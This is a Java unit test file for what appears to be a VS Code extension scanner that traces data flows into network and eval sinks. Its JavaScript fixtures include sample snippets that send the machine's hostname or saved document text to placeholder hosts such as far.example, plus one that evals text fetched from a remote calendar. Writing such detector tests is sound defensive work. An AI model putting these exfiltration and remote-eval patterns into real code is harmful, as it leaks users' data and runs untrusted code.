package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Feature;
import dev.vsxray.scanner.model.Trigger;
import java.util.List;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;

/** What hands on to the next of its kind: observables, the modules of a bundle, and loops over either. */
class StagesTest {

    @Test
    void aStageThatMayHandOnIsFollowedThroughManyOfItsKind() {
        Analysis analysis = Analysis.ofActivate("""
                class Stage {
                  constructor(onNext) { this.onNext = onNext; }
                  next(value) { if (Math.random() > 0.5) this.onNext(value); }
                }
                const through = (stage, change) => new Stage(value => stage.next(change(value)));
                let first = new Stage(value => https.get('https://far.example/' + value));
                for (const change of [x => x + 1, x => '' + x, x => x, x => x, x => x]) first = through(first, change);
                first.next(os.hostname());
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
    }

    @Test
    void aFunctionThatCallsItselfForTheSameObjectEnds() {
        Analysis analysis = Analysis.ofActivate("""
                class Walker {
                  walk(node) { if (Math.random() > 0.5) { this.walk(node.left); this.walk(node.right); this.walk(node.next); } }
                }
                new Walker().walk(JSON.parse(fs.readFileSync('tree.json')));
                """, 100_000);

        assertThat(analysis.result().gaps()).isEmpty();
    }

    @Test
    void everyObserverIsToldWhenTheLoopOverThemIsWrittenWithItsIterator() {
        Analysis analysis = Analysis.ofActivate("""
                const observers = [
                  { next: value => fetch('https://one.example/' + value) },
                  { next: value => fetch('https://two.example/' + value) },
                  { next: value => fetch('https://three.example/' + value) },
                  { next: value => fetch('https://four.example/' + value) } ];
                const told = Math.random() > 0.5 ? observers : undefined;
                for (var all = told[Symbol.iterator](), step = all.next(); !step.done; step = all.next()) {
                  step.value.next(os.hostname());
                }
                """);

        assertThat(analysis.flows("account-identity", "network-url"))
                .flatExtracting(Feature.Flow::destinations)
                .containsExactlyInAnyOrder(
                        "https://one.example/…",
                        "https://two.example/…",
                        "https://three.example/…",
                        "https://four.example/…");
    }

    @Test
    void everyModuleOfABundleRunsWhenItIsAskedForWhereItIsNotKnownWhetherItIs() {
        Analysis analysis = Analysis.of("""
                const lazily = (run, made) => () => (made || run((made = { exports: {} }).exports, made), made.exports);
                const large = () => lazily(exports => { for (let i = 0; i < 200; i++) exports['member' + i] = i; });
                const needed = [large(), large(), large(), large(), large(), large(), large(), large(), large(), large()];
                const client = lazily((exports, module) => {
                  module.exports = class { send(text) { fetch('https://far.example/' + text); } };
                });
                exports.activate = () => {
                  if (Math.random() > 0.5) return;
                  needed.forEach(module => module());
                  const Client = client();
                  new Client().send(require('os').hostname());
                };
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
    }

    @Test
    void anAddressIsStillReadWhereATextIsOneOfVeryMany() {
        Analysis analysis = Analysis.ofActivate("""
                const name = ['a', 'b', 'c', 'd', 'e'][Math.floor(Math.random() * 5)];
                const other = ['f', 'g', 'h', 'i'][Math.floor(Math.random() * 4)];
                let page = '';
                for (const turn of [1, 2, 3]) {
                  page += '<img src="https://pixel.example/' + name + '/' + other + '/' + os.hostname() + '.png">' + name;
                }
                vscode.window.createWebviewPanel('p', 'P', 1).webview.html = '<p>' + page + '</p>';
                """);

        assertThat(analysis.flowNames())
                .containsExactlyInAnyOrder("account-identity -> webview-html", "account-identity -> image-url");
    }

    @Test
    void aTextThatIsPutTogetherInALoopIsNoCounter() {
        Analysis analysis = Analysis.ofActivate("""
                let address = Math.random() > 0.5 ? 'https://near.example/' : 'https://far.example/';
                address += os.hostname();
                fetch(address);
                """);

        assertThat(analysis.flows("account-identity", "network-url"))
                .flatExtracting(Feature.Flow::destinations)
                .containsExactlyInAnyOrder("https://near.example/…", "https://far.example/…");
    }

    @Test
    void aModuleThatMayFailRunsOnce() {
        Analysis analysis = Analysis.of("""
                var lazily = (run, made) => function load() {
                  try {
                    return made || run((made = { exports: {} }).exports, made), made.exports;
                  } catch (e) {
                    throw made = 0, e;
                  }
                };
                let runs = 0;
                var base = lazily((exports, module) => { runs++; if (!process.argv[9]) throw new Error(); module.exports = 1; });
                base(); base(); base();
                exports.activate = () => fetch('https://far.example/' + runs);
                """);

        assertThat(analysis.calls().flatMap(call -> call.arguments().stream()).toList())
                .extracting(Feature.Argument::texts)
                .containsExactly(List.of("https://far.example/1"));
    }

    @Test
    void aParserThatFindsThePartsOfARecordInTurnGivesTheRecord() {
        Analysis analysis = Analysis.of("""
                function events(text) {
                  const found = [];
                  let event;
                  for (const line of text.split('\\n')) {
                    if (line === 'BEGIN:VEVENT') event = {};
                    else if (line === 'END:VEVENT') event?.title && found.push(event);
                    else if (event && line.startsWith('SUMMARY:')) event.title = line.slice(8);
                  }
                  return found;
                }
                exports.activate = async () => {
                  const answer = await fetch('https://calendar.example/public.ics');
                  for (const event of events(await answer.text())) eval(event.title);
                };
                """);

        assertThat(analysis.flowNames()).containsExactly("network-response -> code-eval");
    }

    @Test
    void dataThatAFunctionOfTheSubscribedClosesOverIsNew() {
        Analysis analysis = Analysis.ofActivate("""
                class Observable {
                  constructor(source) { this.source = source; }
                  subscribe(observer) {
                    if (observer.closed) { observer.error('closed'); return this; }
                    for (let i = 0, tries = []; i < 40; i++) { tries.push(i); if (tries.length > 45) return this; }
                    this.source(observer);
                    return this;
                  }
                  pipe(change) { return new Observable(observer => this.subscribe({ next: value => observer.next(change(value)) })); }
                }
                const of = value => new Observable(observer => observer.next(value));
                vscode.workspace.onDidSaveTextDocument(document => {
                  if (Math.random() > 0.5) return;
                  for (const step of [1, 2, 3, 4, 5, 6, 7, 8, 9]) of(step).pipe(x => x).subscribe({ next: x => x });
                  const text = document.getText();
                  of(1).pipe(() => text).subscribe({ next: value => fetch('https://far.example/', { method: 'POST', body: value }) });
                });
                """);

        assertThat(analysis.flowNames()).contains("editor-document -> network-send");
    }

    @Test
    void aHostThatWasNotNamedBeforeIsNew() {
        Analysis analysis = Analysis.ofActivate("""
                const ask = (url, options) => {
                  for (let i = 0, tries = []; i < 60; i++) { tries.push(i); if (tries.length > 70) return; }
                  return fetch(url, options);
                };
                vscode.window.onDidChangeActiveTextEditor(() => {
                  if (Math.random() > 0.5) return;
                  for (const page of 'abcdefghijklm') ask('https://known.example/' + page + os.hostname(), {});
                  ask('https://new.example/' + os.hostname(), {});
                });
                """);

        assertThat(analysis.destinations("account-identity", "network-url"))
                .anyMatch(url -> url.startsWith("https://new.example/"));
    }

    @Test
    void eachHostHasItsOwnFlowFromOneClient() {
        Analysis analysis = Analysis.ofActivate("""
                const post = (url, body) => fetch(url, { method: 'POST', body });
                vscode.commands.registerCommand('ask', () => post(vscode.workspace.getConfiguration('a').get('url'), os.hostname()));
                vscode.workspace.onDidSaveTextDocument(() => post('https://other.example/o', os.hostname()));
                """);

        assertThat(analysis.flows("account-identity", "network-send"))
                .filteredOn(flow -> flow.destinations().contains("https://other.example/o"))
                .allMatch(flow -> flow.context().triggers().equals(new TreeSet<>(List.of(Trigger.DOCUMENT_EVENT))))
                .isNotEmpty();
    }
}
